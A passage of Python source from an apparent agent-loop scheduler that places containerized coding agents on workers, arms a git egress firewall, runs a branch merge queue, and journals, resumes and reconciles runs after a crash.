                on_decision=self._on_gitguard_decision).start()
            self.on_event("scheduler", "gitguard_up",
                          str(self._gitguard_socket_path()))
        except (ClawkerError, OSError) as e:
            # fail-closed either way: with the deny pins installed and
            # no guard socket, every git path is a connection error --
            # but say so loudly, the run's pushes will all refuse
            self.gitguard = None
            self.on_event("scheduler", "gitguard_start_failed", str(e))
            log.error("loop %s: gitguard start failed (git lane is "
                      "fail-closed): %s", self.loop_id, e)

    def _on_gitguard_decision(self, d) -> None:
        self._gitguard_decisions[d.verdict] = (
            self._gitguard_decisions.get(d.verdict, 0) + 1)
        self._journal(REC_GITGUARD_DECISION, **d.to_doc())
        self.on_event("scheduler", GITGUARD_DECISION, GitguardDecisionEvent(
            d.verdict, d.service, d.ref, d.reason).detail())

    def _gitguard_teardown(self) -> None:
        """Stop the proxy and remove exactly the journaled rule keys."""
        guard, self.gitguard = self.gitguard, None
        if guard is not None:
            try:
                guard.close()
            except Exception:   # noqa: BLE001 -- teardown is best-effort
                pass
        keys, self._gitguard_rule_keys = self._gitguard_rule_keys, []
        if keys:
            try:
                from ..firewall.rules import RulesStore
                store = RulesStore(self.cfg.egress_rules_path)
                for key in keys:
                    store.remove(key)
            except ClawkerError as e:
                log.warning("loop %s: gitguard rule teardown failed: %s",
                            self.loop_id, e)

    def gitguard_summary(self) -> dict:
        """Status surface: what the git firewall is enforcing for this
        run (loopd status, `clawker fleet placement` run summary)."""
        gs = self.cfg.settings.gitguard
        return {
            "enabled": self._gitguard_armed(),
            "running": self.gitguard is not None,
            "socket": str(self._gitguard_socket_path())
            if self._gitguard_armed() else "",
            "hosts": list(gs.hosts),
            "rules": list(self._gitguard_rule_keys),
            "decisions": dict(self._gitguard_decisions),
        }

    # ------------------------------------------------------- merge queue

    def _merge_target(self) -> str:
        """Where agent branches land: an explicit settings override, or
        a run-scoped integration branch (never a user checkout --
        publishing is a guarded update-ref, docs/loop-worktrees.md)."""
        wts = self.cfg.settings.loop.worktrees
        return wts.merge_into or f"{wts.branch_prefix}/{self.loop_id}/merged"

    def _merge_retry_hint(self) -> float:
        """Conflict-loser backoff: the admission controller's shed hint
        when the fleet is backpressured (merge retries must queue
        behind real launches, not spin ahead of them), else the
        configured merge_retry_s."""
        wts = self.cfg.settings.loop.worktrees
        hint = 0.0
        try:
            workers = self.admission.stats().get("workers", {})
            hint = max((float(g.get("shed_retry_after_s", 0.0))
                        for g in workers.values()), default=0.0)
        except Exception:       # noqa: BLE001 -- a stats hiccup must not
            pass                # stall the merge queue
        return max(hint, float(wts.merge_retry_s))

    def _merge_tick(self) -> None:
        """Drain due merge-queue entries (run thread, under _git_lock --
        the same lock worktree provisioning takes, so a landing never
        races a ``worktree add``).  Git faults surface as events, never
        as a run() crash."""
        if self.mergeq is None or not self.mergeq.pending():
            return
        from ..gitx.git import GitManager

        wts = self.cfg.settings.loop.worktrees
        gm = GitManager(self.cfg.project_root or Path.cwd())
        target = self._merge_target()
        try:
            with self._git_lock:
                gm.ensure_branch(target, base=wts.base)
                report = self.mergeq.drain(
                    gm, target, retry_delay=self._merge_retry_hint,
                    message_for=lambda a: (
                        f"loop {self.loop_id}: land {a}"))
        except ClawkerError as e:
            self.on_event("scheduler", "merge_tick_failed", str(e))
            log.error("loop %s: merge tick failed: %s", self.loop_id, e)
            return
        for agent, outcome in report.landed:
            self.on_event(agent, "merged", f"{target}:{outcome}")
        for agent in report.resubmitted:
            self.on_event(agent, "merge_conflict",
                          "resubmitted with backoff")
        for agent in report.failed:
            self.on_event(agent, "merge_failed",
                          f"conflict after {wts.merge_attempts} attempts")

    def _drain_merges(self, deadline_s: float = HALT_DEADLINE_S) -> None:
        """Run the merge queue dry (bounded): the end-of-run landing
        pass.  Entries inside a conflict backoff window are waited out
        up to ``deadline_s``; whatever still cannot land is left on the
        queue and reported failed at cleanup."""
        if self.mergeq is None:
            return
        deadline = time.monotonic() + max(0.0, deadline_s)
        self._merge_tick()
        while self.mergeq.pending() and time.monotonic() < deadline:
            time.sleep(0.02)
            self._merge_tick()

    def start(self) -> None:
        """Place loops and fan create+first-start across worker lanes.

        Returns once every launch is SUBMITTED to admission: the old
        serial create loop stacked O(N * RTT) on SSH engines, and one
        wedged worker blocked the whole pod's fan-out.  Each worker's
        admission token bucket then drains its launches at the daemon's
        sustainable rate; run() drives them to completion (and accounts
        their failures).

        Placement rides the policy engine with the LIVE context: a
        worker whose breaker is already open (known-dead dial, a test
        pre-trip) receives zero slots.
        """
        self._ensure_health()
        workers = self.driver.workers()
        slots = self.policy.plan(self._placement_ctx(workers),
                                 self.spec.parallel)
        for i, worker in enumerate(slots):
            # loop id in the agent name: two concurrent runs in one project
            # must never collide (replace=True would kill the other run);
            # the name is DETERMINISTIC per (run, slot) so a resume can
            # re-derive it from the journal alone
            agent = self._agent_name(i)
            loop = AgentLoop(agent=agent, worker=worker)
            self.loops.append(loop)
        # write-ahead: the run header and every placement hit the journal
        # (one group-commit fsync) BEFORE any launch is submitted -- a
        # crash past this point leaves enough to reconcile from
        self._journal(REC_RUN, run=self.loop_id,
                      project=self.cfg.project_name(),
                      spec=self._spec_doc(), workers=[w.id for w in workers])
        for loop in self.loops:
            self._journal(REC_PLACEMENT, agent=loop.agent,
                          worker=loop.worker.id, epoch=loop.epoch,
                          tenant=self.spec.tenant)
        if self.journal is not None:
            self.journal.sync()
        # the git firewall arms BEFORE any launch is submitted: an
        # agent's very first iteration must already find ssh/git-proto
        # denied and the guarded smart-HTTP lane the only git path
        self._gitguard_setup()
        self.seams.fire("run.post_placement")
        for loop in self.loops:
            note_decision(self.policy.name, loop.worker.id)
            self.on_event(loop.agent, PLACEMENT_DECISION, PlacementEvent(
                loop.agent, loop.worker.id, self.policy.name,
                self.spec.tenant, "placed").detail())
            self._submit_launch(loop, loop.worker, loop.epoch, self._launch)

    def _agent_name(self, slot: int) -> str:
        return f"{self.spec.agent_prefix}-{self.loop_id[:6]}-{slot}"

    def _spec_doc(self) -> dict:
        """The journaled run shape: everything a resume needs to rebuild
        an equivalent LoopSpec without the original command line."""
        s = self.spec
        return {
            "parallel": s.parallel, "iterations": s.iterations,
            "placement": s.placement, "image": s.image, "prompt": s.prompt,
            "worktrees": s.worktrees, "gitguard": s.gitguard,
            "workspace_mode": s.workspace_mode,
            "agent_prefix": s.agent_prefix, "env": dict(s.env),
            "failover": s.failover,
            "tenant": s.tenant, "tenant_weight": s.tenant_weight,
            "tenant_max_inflight": s.tenant_max_inflight,
            "max_inflight_per_worker": s.max_inflight_per_worker,
            "warm_pool_depth": s.warm_pool_depth,
            "trace_parent": s.trace_parent,
            "clock_offset_s": s.clock_offset_s,
        }

    def wait_launched(self, timeout: float | None = None) -> bool:
        """Block until every submitted launch (create + first start) has
        completed; True when all landed within ``timeout``.  For callers
        that need the old synchronous start() semantics -- run() does NOT
        need this (it harvests launches as they finish), so a hung worker
        only stalls callers that explicitly opt into waiting."""
        done, not_done = futures_wait(list(self._inflight.values()),
                                      timeout=timeout)
        return not not_done

    # -------------------------------------------------------------- resume

    @classmethod
    def resume(cls, cfg: Config, driver: RuntimeDriver, image: RunImage, *,
               on_event=None, health_config: HealthConfig | None = None,
               failover: str | None = None, iterations: int | None = None,
               orphan_grace_s: float | None = None,
               telemetry: bool = True,
               admission: AdmissionController | None = None,
               seams=None, executors=None) -> "LoopScheduler":
        """Rebuild a scheduler from a replayed run journal.

        The journal is the authority for the run's SHAPE (slot count,
        image, prompt, placement policy, per-loop iteration counts and
        exit histories); ``failover`` / ``iterations`` /
        ``orphan_grace_s`` may be overridden for the resumed leg.  The
        caller must run :meth:`reconcile` before :meth:`run` -- that is
        where journaled state meets live container state.
        """
        if not image.run_id:
            raise ClawkerError(
                "loop resume: journal has no run header -- the previous "
                "scheduler died before its first record landed; start a "
                "fresh run instead")
        sd = image.spec
        spec = LoopSpec(
            parallel=int(sd.get("parallel") or len(image.loops) or 1),
            iterations=(iterations if iterations is not None
                        else int(sd.get("iterations") or 0)),
            placement=str(sd.get("placement") or "spread"),
            image=str(sd.get("image") or "@"),
            prompt=str(sd.get("prompt") or ""),
            worktrees=bool(sd.get("worktrees") or False),
            gitguard=sd.get("gitguard"),
            workspace_mode=str(sd.get("workspace_mode") or ""),
            agent_prefix=str(sd.get("agent_prefix") or "loop"),
            env={str(k): str(v) for k, v in (sd.get("env") or {}).items()},
            failover=failover or str(sd.get("failover") or "migrate"),
            orphan_grace_s=orphan_grace_s,
            telemetry=telemetry,
            tenant=str(sd.get("tenant") or "default"),
            tenant_weight=float(sd.get("tenant_weight") or 1.0),
            tenant_max_inflight=int(sd.get("tenant_max_inflight") or 0),
            max_inflight_per_worker=int(
                sd.get("max_inflight_per_worker") or 0),
            warm_pool_depth=int(sd.get("warm_pool_depth") or 0),
            trace_parent=str(sd.get("trace_parent") or ""),
            clock_offset_s=float(sd.get("clock_offset_s") or 0.0),
        )
        sched = cls(cfg, driver, spec, on_event=on_event,
                    health_config=health_config, run_id=image.run_id,
                    admission=admission, seams=seams, executors=executors)
        sched._image = image
        # seed provisioning replays as DEDUP state, not as work: a
        # journaled digest is never re-journaled, and a journaled
        # worktree re-attaches through the idempotent setup_worktree
        # (zero duplicate seeds, branches, or worktree adds -- the
        # REC_SEED_* records exist exactly for this)
        sched._seeds_journaled.update(image.seeds)
        sched._worktrees_journaled.update(image.worktrees)
        for agent, wt in image.worktrees.items():
            if wt.get("branch"):
                sched._branches[agent] = str(wt["branch"])
        # gitguard rules the dead generation installed: re-arm teardown
        # for exactly these keys (the WAL's pre-add record), and fold
        # the journaled verdict counts back into the status surface;
        # the proxy itself re-arms through the ordinary setup when the
        # resumed generation starts its first launch batch
        sched._gitguard_rule_keys = list(image.gitguard_rules)
        sched._gitguard_decisions = dict(image.gitguard_decisions)
        if sched._gitguard_armed():
            sched._gitguard_setup()
        sched._build_resumed_loops(image)
        sched._durable_ok(sched._journal(
            REC_RESUME, durable=True, generation=image.generation + 1,
            clean=image.clean_shutdown), "resume")
        _RESUMES.inc()
        sched.on_event("scheduler", "resume",
                       f"run {image.run_id} generation {image.generation + 1}")
        return sched

    def _build_resumed_loops(self, image: RunImage) -> None:
        """Journal images -> AgentLoop objects on the CURRENT fleet.

        A journaled worker the fleet no longer has gets an engine-less
        stand-in ``Worker``: the health monitor pre-opens its breaker,
        so its loops flow through the ordinary orphan/failover path on
        the first verdict drain instead of needing a parallel mechanism.
        """
        workers_by_id = {w.id: w for w in self.driver.workers()}
        synthesized: dict[str, Worker] = {}

        def worker_for(wid: str) -> Worker:
            w = workers_by_id.get(wid)
            if w is not None:
                return w
            if wid not in synthesized:
                stand_in = Worker(
                    id=wid, index=len(workers_by_id) + len(synthesized),
                    hostname=wid, engine=None,
                    meta={"dial_error": "worker absent from resumed fleet"})
                synthesized[wid] = stand_in
                self._extra_workers.append(stand_in)
            return synthesized[wid]

        # agent names are deterministic per (run, slot): slots the journal
        # never recorded (crash inside start() before the placement batch
        # synced) get fresh placements on the live fleet
        slots = place(self.driver.workers(), self.spec.parallel,
                      self.spec.placement)
        for i in range(self.spec.parallel):
            agent = self._agent_name(i)
            img = image.loops.get(agent)
            if img is None:
                self._journal(REC_PLACEMENT, agent=agent,
                              worker=slots[i].id, epoch=0)
                self.loops.append(AgentLoop(agent=agent, worker=slots[i]))
                continue
            worker = worker_for(img.worker) if img.worker else slots[i]
            status = img.status
            if status in ("running", "stopped"):
                # "running" is a claim about the DEAD scheduler's world;
                # reconcile re-earns it.  "stopped" is the clean-drain
                # state a resume exists to pick back up.
                status = "pending"
            if (self.spec.iterations
                    and img.iteration >= self.spec.iterations
                    and status in ("pending", "orphaned")):
                # budget reached; the crash beat the terminal record
                status = "done"
            loop = AgentLoop(
                agent=agent, worker=worker, iteration=img.iteration,
                consecutive_failures=img.consecutive_failures,
                exit_codes=list(img.exit_codes), status=status,
                fresh_container=False, migrations=img.migrations,
                epoch=img.epoch)
            loop.abandoned = [(workers_by_id[wid], cid)
                              for wid, cid in img.abandoned
                              if wid in workers_by_id]
            self.loops.append(loop)
        if self.journal is not None:
            self.journal.sync()

    def reconcile(self, *, deadline_s: float = 60.0) -> dict:
        """Reconcile journaled placements against live container state:
        ONE label-scoped ``list_containers`` per worker (on its lane),
        then per loop -- adopt a still-running container in place,
        account an exit the dead scheduler never saw, finish a created-
        but-never-started launch, re-launch a journaled-but-never-created
        placement, and sweep unclaimed leftovers as ghosts.  Workers
        whose listing fails or overruns ``deadline_s`` strand their
        loops into the normal breaker/failover machinery.

        Returns a summary dict (adopted/continued/relaunched/
        exits_accounted/ghosts/orphaned counts).  Must run after
        :meth:`resume` and before :meth:`run`.
        """
        image = self._image
        if image is None:
            raise ClawkerError("loop resume: reconcile() before resume()")
        self.seams.fire("resume.pre_reconcile")
        self._ensure_health()
        summary = {"adopted": 0, "continued": 0, "relaunched": 0,
                   "exits_accounted": 0, "ghosts": 0, "orphaned": 0,
                   "pool_restored": 0}
        lock = threading.Lock()     # summary is mutated from lane threads
        # journaled pool members that may still be adoptable: matched by
        # their deterministic pool name on the owning worker's listing --
        # restored into this generation's pool while still `created`
        # (and under target depth), swept as ghosts otherwise
        pool_by_worker: dict[str, list] = {}
        workers_by_id = {w.id: w for w in self.driver.workers()}
        for member in image.pool.values():
            if (member.state in ("pending", "ready")
                    and member.worker in workers_by_id):
                pool_by_worker.setdefault(member.worker, []).append(member)
        by_worker: dict[str, list[AgentLoop]] = {}
        # journaled pending-queue order first: loops whose launch was
        # queued in admission when the scheduler died re-enter each
        # worker's queue in the order they originally held (satellite
        # guarantee: --resume restores pending-queue order)
        queue_rank = {a: i for i, a in enumerate(image.queued_order)}
        ordered = sorted(
            self.loops,
            key=lambda l: (queue_rank.get(l.agent, len(queue_rank)),
                           self.loops.index(l)))
        for loop in ordered:
            if loop.status != "pending" or loop.worker.engine is None:
                # engine-less stand-ins are handled by the health
                # pre-trip at run(); terminal loops need nothing
                continue
            by_worker.setdefault(loop.worker.id, []).append(loop)
        # workers hosting only journaled pool members (no pending loops)
        # still need a listing: their members must be restored or swept
        for wid in pool_by_worker:
            if wid not in by_worker:
                by_worker[wid] = []
        futs: dict[str, Future] = {}
        for wid, group in by_worker.items():
            worker = group[0].worker if group else workers_by_id[wid]
            futs[wid] = self._lane(worker).submit(
                self._reconcile_worker, worker, list(group),
                image, summary, lock, pool_by_worker.get(wid, []))
        futures_wait(list(futs.values()), timeout=deadline_s)
        for wid, fut in futs.items():
            if not fut.done() or fut.exception() is not None:
                # wedged or crashed reconcile: its un-adopted loops go to
                # failover now; the epoch bump no-ops the late lane task
                for loop in by_worker[wid]:
                    if loop.status == "pending":
                        self._strand(loop, loop.epoch,
                                     "resume reconcile "
                                     + ("timed out" if not fut.done() else
                                        f"crashed: {fut.exception()!r}"))
                        with lock:
                            summary["orphaned"] += 1
        with lock:
            return dict(summary)

    def _reconcile_worker(self, worker: Worker, group: list[AgentLoop],
                          image: RunImage, summary: dict, lock,
                          pool_members: list | None = None) -> None:
        engine = worker.require_engine()
        try:
            rows = engine.list_containers(all=True, filters={
                "label": [f"{consts.LABEL_LOOP}={self.loop_id}"]})
        except ClawkerError as e:
            # the worker died while the CLI was down: strand its loops
            # into the breaker/failover machinery
            for loop in group:
                self._strand(loop, loop.epoch, f"resume: list failed: {e}")
            with lock:
                summary["orphaned"] += len(group)
            return
        project = self.cfg.project_name()
        by_name: dict[str, dict] = {}
        for row in rows:
            names = row.get("Names") or []
            if names:
                by_name[str(names[0]).lstrip("/")] = row
        claimed: set[str] = set()
        for loop in group:
            row = by_name.get(container_name(project, loop.agent))
            if row is not None:
                row_epoch = (row.get("Labels") or {}).get(
                    consts.LABEL_LOOP_EPOCH, "")
                if row_epoch and row_epoch != str(loop.epoch):
                    # engines without in-place relabel leave an adopted
                    # warm-pool member's create-time epoch label
                    # ("pool") behind; there the journal is
                    # authoritative -- the durable REC_CREATED cid
                    # names the exact container this placement owns
                    li = image.loops.get(loop.agent)
                    jcid = li.container_id if li is not None else ""
                    if not jcid or str(row.get("Id", "")) != jcid:
                        row = None  # superseded placement's copy: a ghost
            if row is None:
                # journaled placement, no current container -- the crash
                # landed between the WAL record and the create (or the
                # container was lost with its worker): re-launch
                rcpt = self._journal(REC_PLACEMENT, durable=True,
                                     agent=loop.agent, worker=worker.id,
                                     epoch=loop.epoch,
                                     tenant=self.spec.tenant)
                if not self._durable_ok(rcpt, "placement"):
                    # storage fault, not worker sickness: strand WITHOUT
                    # breaker penalty -- the WAL-before-create contract
                    # is never waived, the rescue pass re-places once
                    # the journal recovers (docs/durability.md)
                    self._strand(loop, loop.epoch,
                                 "storage fault: placement not durable",
                                 penalize=False)
                    with lock:
                        summary["orphaned"] += 1
                    continue
                self._submit_launch(loop, worker, loop.epoch, self._launch)
                with lock:
                    summary["relaunched"] += 1
                continue
            claimed.add(str(row.get("Id", "")))
            try:
                self._reconcile_loop(loop, worker, row,
                                     image.loops.get(loop.agent),
                                     summary, lock)
            except ClawkerError as e:
                self._strand(loop, loop.epoch, f"resume: {e}")
                with lock:
                    summary["orphaned"] += 1
        # journaled pool members on this worker: a member still sitting
        # `created` under its pool name is re-adopted into THIS
        # generation's pool (exactly once -- checkout/adopt journaled
        # it consumed otherwise); anything else -- started, exited,
        # half-adopted, over target depth, pool disabled now -- is left
        # unclaimed for the ghost sweep below, which counts it in
        # loop_ghosts_swept_total like every other stale leftover
        for member in pool_members or []:
            row = by_name.get(container_name(project, member.agent))
            if row is None:
                continue        # never created, or lost with the worker
            cid = str(row.get("Id", ""))
            state = str(row.get("State") or "").lower()
            if (self.warmpool is not None and state == "created"
                    and self.warmpool.restore(worker, member.agent, cid)):
                claimed.add(cid)
                with lock:
                    summary["pool_restored"] += 1
            else:
                self._journal(REC_POOL_REMOVE, agent=member.agent,
                              worker=worker.id, cid=cid,
                              reason="stale at resume")
        # ghost sweep: this run's containers on this worker that no
        # resumed loop claims -- lost-create-response leftovers, stale
        # epochs, copies of loops placed elsewhere, finished loops'
        # remains.  Only a label-scoped list finds these.
        for row in rows:
            cid = str(row.get("Id", ""))
            if cid and cid not in claimed:
                self._remove_cid(worker, cid)
                self._journal(REC_GHOST, agent="", worker=worker.id, cid=cid)
                _GHOSTS.labels(worker.id).inc()
                with lock:
                    summary["ghosts"] += 1

    def _reconcile_loop(self, loop: AgentLoop, worker: Worker, row: dict,
                        hint, summary: dict, lock) -> None:
        """One loop vs its live container.  Runs on the worker's lane."""
        cid = str(row.get("Id", ""))
        state = str(row.get("State") or "").lower()
        epoch = loop.epoch
        if state in _ACTIVE_STATES and state != "created":
            # ADOPT in place: the agent kept working while the scheduler
            # was dead -- no restart, no create; the ordinary waiter/poll
            # machinery attaches to the live container from here
            with self._placement_lock:
                if loop.epoch != epoch or self._stop.is_set():
                    return
                loop.container_id = cid
                loop.fresh_container = False
                loop.status = "running"
            self.tracer.begin_iteration(loop.agent, loop.iteration,
                                        worker.id, epoch=epoch,
                                        resumed=True, adopted=True)
            now = self.tracer.now()
            self.tracer.child(loop.agent, loop.iteration, SPAN_RESUME,
                              now, now, worker=worker.id, adopted=True)
            self._iter_started[(loop.agent, loop.iteration)] = now
            self._journal(REC_ADOPTED, agent=loop.agent, worker=worker.id,
                          cid=cid, iteration=loop.iteration)
            _ADOPTIONS.labels(worker.id).inc()
            done: Future = Future()
            done.set_result(None)
            self._inflight[loop.agent] = done
            ex = self._workerd_for(worker)
            if ex is not None:
                # the adopted iteration's exit streams from a
                # worker-resident waiter; run() will skip WAN polls for
                # this worker while the channel is live
                ex.submit_adopt(loop, epoch)
            self.on_event(loop.agent, "adopted", f"{worker.id}:{cid[:12]}")
            with lock:
                summary["adopted"] += 1
            self.seams.fire("resume.post_adopt")
            return
        if state == "created":
            # created but never started (crash between the create and the
            # first start): finish the launch -- full bootstrap, and
            # crucially NOT a second create
            with self._placement_lock:
                if loop.epoch != epoch or self._stop.is_set():
                    return
                loop.container_id = cid
                loop.fresh_container = True
            self._submit_launch(loop, worker, epoch, self._guarded_start)
            with lock:
                summary["continued"] += 1
            return
        # exited while the scheduler was dead
        if hint is not None and hint.started:
            # the journaled iteration ran to exit unaccounted: account it
            # exactly once, then continue at the next iteration
            with self._placement_lock:
                if loop.epoch != epoch or self._stop.is_set():
                    return
                loop.container_id = cid
                loop.fresh_container = False
                loop.status = "running"
            code, detail = self._read_exit(loop)
            if code is None and not detail:
                # the list row raced the container back to life: it is
                # effectively still running -- adopt instead
                self._reconcile_loop(loop, worker,
                                     {**row, "State": "running"},
                                     hint, summary, lock)
                return
            self.tracer.begin_iteration(loop.agent, loop.iteration,
                                        worker.id, epoch=epoch, resumed=True)
            now = self.tracer.now()
            self.tracer.child(loop.agent, loop.iteration, SPAN_RESUME,
                              now, now, worker=worker.id, adopted=False)
            if code is None:
                loop.status = "failed"
                self._journal(REC_LOOP_END, agent=loop.agent,
                              status="failed", reason=detail)
                self.tracer.end_iteration(loop.agent, loop.iteration,
                                          status="failed", reason=detail)
                self.on_event(loop.agent, "failed", detail)
                with lock:
                    summary["exits_accounted"] += 1
                return
            self._finish_iteration(loop, code)
            with lock:
                summary["exits_accounted"] += 1
            if loop.status == "running":    # budget left: next iteration
                self._submit_launch(loop, worker, epoch, self._guarded_start)
            return
        # exit already journaled (crash landed between iterations):
        # restart the same container into the next iteration
        with self._placement_lock:
            if loop.epoch != epoch or self._stop.is_set():
                return
            loop.container_id = cid
            loop.fresh_container = False
        self._submit_launch(loop, worker, epoch, self._guarded_start)
        with lock:
            summary["continued"] += 1

    def _launch(self, loop: AgentLoop, epoch: int,
                worker: Worker | None = None) -> None:
        """Create + first iteration start, on the owning worker's lane.

        ``epoch`` pins the task to the placement it was submitted for: a
        launch still queued behind a wedged lane when the loop was
        orphaned (and possibly migrated) must no-op once that lane
        drains, exactly like one queued behind a user stop().  ``worker``
        is captured at submit time for the same reason -- the task must
        act on ITS placement's worker even if the loop has since moved.
        """
        worker = worker or loop.worker
        if self._stop.is_set() or loop.epoch != epoch:
            return
        try:
            self._create(loop, epoch, worker)
        except DriverError as e:
            # the worker's daemon is unreachable: that is a HEALTH
            # verdict, not this loop's failure -- strand the loop and
            # let the failover policy place it
            self._strand(loop, epoch, f"create: {e}")
            return
        except ClawkerError as e:
            if loop.epoch != epoch:
                return      # raced an orphan mid-create; rescue owns it
            loop.status = "failed"
            self._journal(REC_LOOP_END, agent=loop.agent, status="failed",
                          reason=f"create: {e}")
            self.tracer.end_iteration(loop.agent, loop.iteration,
                                      status="failed", reason=f"create: {e}")
            self.on_event(loop.agent, "create_failed", str(e))
            log.error("loop %s: create failed: %s", loop.agent, e)
            return
        self._guarded_start(loop, epoch, worker)

    def _begin_iter_span(self, loop: AgentLoop, worker: Worker,
                         epoch: int) -> None:
        """Open (idempotently) this iteration attempt's root span,
        attaching the lane queue wait measured at dequeue time."""
        attrs: dict = {"epoch": epoch}
        qw = self._queue_wait.pop(loop.agent, None)
        if qw is not None:
            attrs["queue_ms"] = round(qw * 1000, 2)
        # federated runs: link this root to loopd's submit span and carry
        # the cumulative clock offset so the cross-process merge can both
        # JOIN the segments and re-base their clocks (docs/tracing.md)
        tp = TraceContext.from_header(self.spec.trace_parent)
        if tp is not None and tp.span_id:
            attrs["ctx_parent"] = tp.span_id
        if self._trace_offset_s:
            attrs["skew_s"] = round(self._trace_offset_s, 6)
        self.tracer.begin_iteration(loop.agent, loop.iteration, worker.id,
                                    **attrs)

    def _trace_tp(self, loop: AgentLoop) -> str:
        """Traceparent for one loop's workerd intents: the run id plus
        the open iteration-root span id when one is open (adopt/start
        after the root exists), else a root-less header the merge joins
        by (agent, iteration) -- the launch path, where the root only
        opens when the created event lands."""
        if self.flight is None:
            return ""       # tracing rides telemetry: off together
        span_id = self.tracer.open_root(loop.agent, loop.iteration)
        return TraceContext(self.loop_id, span_id).to_header()

    def _engine_ctx(self, loop: AgentLoop):
        """Activate this iteration's trace context around direct-path
        engine work: httpapi stamps ``engine.request`` spans under the
        open iteration root, with zero new round-trips (the traceparent
        rides requests the path already makes)."""
        if self.flight is None:
            return contextlib.nullcontext()
        return use(TraceContext(
            self.loop_id,
            self.tracer.open_root(loop.agent, loop.iteration),
            agent=loop.agent, worker=loop.worker.id,
            sink=self._record_span))

    def _create(self, loop: AgentLoop, epoch: int, worker: Worker) -> None:
        # worktree setup mutates ONE shared git repo (refs, worktree
        # metadata): serialize it across lanes or concurrent loops race
        # git's own lock files.  A migrated loop keeps its worktree.
        if loop.worktree is None:
            with self._git_lock:
                workspace_root, git_dir = self._maybe_worktree(loop.agent)
            loop.worktree = workspace_root
        else:
            workspace_root, git_dir = loop.worktree, None
            if self.spec.worktrees:
                from ..gitx.git import GitManager
                git_dir = GitManager(self.cfg.project_root or Path.cwd()).git_dir()
        env = {
            "CLAWKER_LOOP_ID": self.loop_id,
            "CLAWKER_LOOP_AGENT": loop.agent,
            **({"CLAWKER_LOOP_PROMPT": self.spec.prompt} if self.spec.prompt else {}),
            **self.spec.env,
        }
        rt = self._runtime(worker)
        # isolation default: snapshot copies; a bind worktree IS the
        # isolation (and the linked .git file only resolves under a
        # live bind) -- settings loop.worktrees.workspace_mode governs
        mode = self._effective_mode()
        seed_digest = ""
        if mode == "snapshot":
            # journals REC_SEED_TAR + warms the content-addressed tar
            # cache: the create below seeds from it without re-walking
            seed_digest, _tar = self._workspace_seed(
                self._seed_root(loop))
        with self._placement_lock:
            # epoch re-checked under the lock before opening the span: a
            # stale create racing its own orphaning must not re-open a
            # root the orphan path just closed
            if loop.epoch != epoch:
                return
            self._begin_iter_span(loop, worker, epoch)
        t_create = self.tracer.now()
        opts = CreateOptions(
            agent=loop.agent,
            image=self.spec.image,
            env=env,
            tty=False,
            workspace_mode=mode,
            worker=worker.id,
            loop_id=self.loop_id,
            # the epoch label makes the container self-describing for a
            # resume: a copy from a superseded placement reads as stale
            # and is swept instead of adopted
            extra_labels={consts.LABEL_LOOP_EPOCH: str(epoch)},
            replace=True,
            workspace_root=workspace_root,
            worktree_git_dir=git_dir,
            seed_digest=seed_digest,
        )
        # warm-pool checkout (docs/loop-warmpool.md): an adoptable
        # pre-created container turns this create into a
        # relabel/env-fixup + rename -- the expensive stages were paid
        # at pool fill.  Any adoption failure falls back to the cold
        # create below, transparently.
        cid = ""
        pool_hit = False
        self.seams.fire("launch.pre_create")
        with self._engine_ctx(loop):
            if self.warmpool is not None and worker.engine is not None:
                entry = self.warmpool.checkout(worker.id, by=loop.agent,
                                               epoch=epoch)
                if entry is not None:
                    aopts = dataclasses.replace(
                        opts, extra_labels=dict(opts.extra_labels))
                    # pool-origin marker survives adoption so volume sweeps
                    # can trace the placeholder's volumes back to it
                    aopts.extra_labels[consts.LABEL_WARMPOOL] = entry.agent
                    try:
                        rt.adopt_pooled(entry.cid, aopts)
                        cid = entry.cid
                        pool_hit = True
                    except ClawkerError as e:
                        self.warmpool.adoption_failed(entry, str(e))
                        self._remove_cid(worker, entry.cid)
                        log.info("loop %s: pool adoption on %s failed (%s); "
                                 "cold create", loop.agent, worker.id, e)
            if not pool_hit:
                cid = rt.create(opts)
        # durable before anything acts on the cid: a crash here must find
        # the container again by (deterministic name, journaled cid).
        # The container already exists -- a broken promise here cannot
        # be unwound, so the run degrades loudly instead of stranding
        self._durable_ok(self._journal(
            REC_CREATED, durable=True, agent=loop.agent,
            worker=worker.id, epoch=epoch, cid=cid,
            pool=pool_hit), "created")
        self.seams.fire("launch.post_create")
        with self._placement_lock:
            if loop.epoch != epoch:
                # orphaned mid-create: the new placement owns the loop
                # now; this container is a leftover to clean up
                loop.abandoned.append((worker, cid))
                return
            loop.container_id = cid
            loop.fresh_container = True
        self.tracer.child(loop.agent, loop.iteration, SPAN_CREATE,
                          t_create, self.tracer.now(), worker=worker.id,
                          pool=pool_hit)
        self.on_event(loop.agent, "created", worker.id)

    # ----------------------------------------------------------- iteration

    def _iteration_state_tar(self, loop: AgentLoop) -> bytes:
        body = (f"loop_id={self.loop_id}\nagent={loop.agent}\n"
                f"iteration={loop.iteration}\n").encode()
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tf:
            ti = tarfile.TarInfo("loop-state")
            ti.size = len(body)
            tf.addfile(ti, io.BytesIO(body))
        return buf.getvalue()

    def _write_iteration(self, loop: AgentLoop, engine, cid: str) -> None:
        """Per-iteration context file (env can't change after create)."""
        # analyze: allow(wal-before-mutation): advisory state file into an
        # already-journaled cid (REC_CREATED durable at create); callers
        # tolerate its loss, so there is nothing for a resume to replay
        engine.put_archive(cid, LOOP_STATE_DIR,
                           self._iteration_state_tar(loop))

    def _start_iteration(self, loop: AgentLoop, worker: Worker,
                         epoch: int) -> None:
        engine = worker.require_engine()
        rt = self._runtime(worker)
        # snapshot the placement under the lock: a stale task unblocking
        # after a migration must act on ITS container, never read (or
        # write) the new placement's container_id / fresh_container
        with self._placement_lock:
            if loop.epoch != epoch:
                return
            if loop.status not in ("pending", "running"):
                # stale restart racing a terminal transition (e.g. an
                # exit accounted through another path while this task
                # was queued): a done/failed loop must never start
                # another iteration
                return
            cid = loop.container_id
            fresh = loop.fresh_container
            # span open shares the epoch check: see _create
            self._begin_iter_span(loop, worker, epoch)
        t_start = self.tracer.now()
        try:
            self._write_iteration(loop, engine, cid)
        except ClawkerError:
            pass  # state file is advisory; the loop itself is not
        self.seams.fire("launch.pre_start")
        with self._engine_ctx(loop):
            if fresh:
                # first start of THIS container (iteration 0, or the first
                # iteration after a migration re-created it elsewhere): the
                # full pre/post bootstrap must run
                rt.start(cid)
            else:
                engine.start_container(cid)
                # a restarted container gets a fresh cgroup: enforcement
                # must re-enroll every iteration (the handler's drift
                # guard keys on exactly this)
                if rt.post_start:
                    rt.post_start(cid)
        with self._placement_lock:
            if loop.epoch != epoch:
